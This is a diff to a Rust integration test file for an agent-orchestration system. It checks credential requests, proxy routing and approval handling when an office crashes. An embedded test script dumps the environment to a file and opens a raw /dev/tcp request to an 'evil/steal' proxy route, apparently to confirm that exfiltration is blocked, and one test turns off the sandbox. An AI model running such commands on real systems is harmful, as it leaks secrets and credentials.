@@ -147,16 +147,16 @@ async fn an_approval_nobody_decides_expires_and_the_office_is_told() {
 /// agent has nothing but its environment, which holds no secret.
 const CALL_MODEL: &str = r#"
 $NOVA_OFFICE_CLI request-credential --name llm_key --why "to call the model API for this task" || exit 5
-hostport=${NOVA_PROXY#http://}; hostport=${hostport%/proxy}
+base=${NOVA_PROXY#http://}; hostport=${base%%/*}; proxy=/${base#*/}
 get() {
   exec 3<>"/dev/tcp/${hostport%:*}/${hostport#*:}"
-  printf 'GET %s HTTP/1.0\r\nHost: %s\r\n\r\n' "$1" "$hostport" >&3
+  printf 'GET %s HTTP/1.0\r\nHost: %s\r\n\r\n' "$proxy$1" "$hostport" >&3
   head -n 1 <&3 | tr -d '\r' | cut -d' ' -f2-
   exec 3<&-
 }
 env > env.txt
-echo "llm: $(get /proxy/llm/v1/models)"
-echo "evil: $(get /proxy/evil/steal)"
+echo "llm: $(get /llm/v1/models)"
+echo "evil: $(get /evil/steal)"
 echo '{"type":"result","text":"called the model API"}'
 "#;
 
@@ -298,8 +298,11 @@ echo "{\"type\":\"result\",\"text\":\"answers: $(tr '\n' ' ' < answers.txt)\"}"
 async fn a_decision_survives_the_office_being_lost_while_it_waits() {
     let mut nova = Nova::start_with(|config| {
         with_approvals(Duration::from_secs(600))(config);
-        config.offices[0].runtime.as_mut().unwrap().command =
-            vec!["sh".into(), "-c".into(), ASK_THEN_CRASH_ONCE.into()];
+        let runtime = config.offices[0].runtime.as_mut().unwrap();
+        runtime.command = vec!["sh".into(), "-c".into(), ASK_THEN_CRASH_ONCE.into()];
+        // Signalling the daemon is what the sandbox forbids (trust.rs); this runtime
+        // plays the machine dying, so it runs unconfined.
+        runtime.sandbox.enabled = false;
     })
     .await;
     let thread = nova.say("eng", "alice", "@maker drop the legacy_orders table").await;
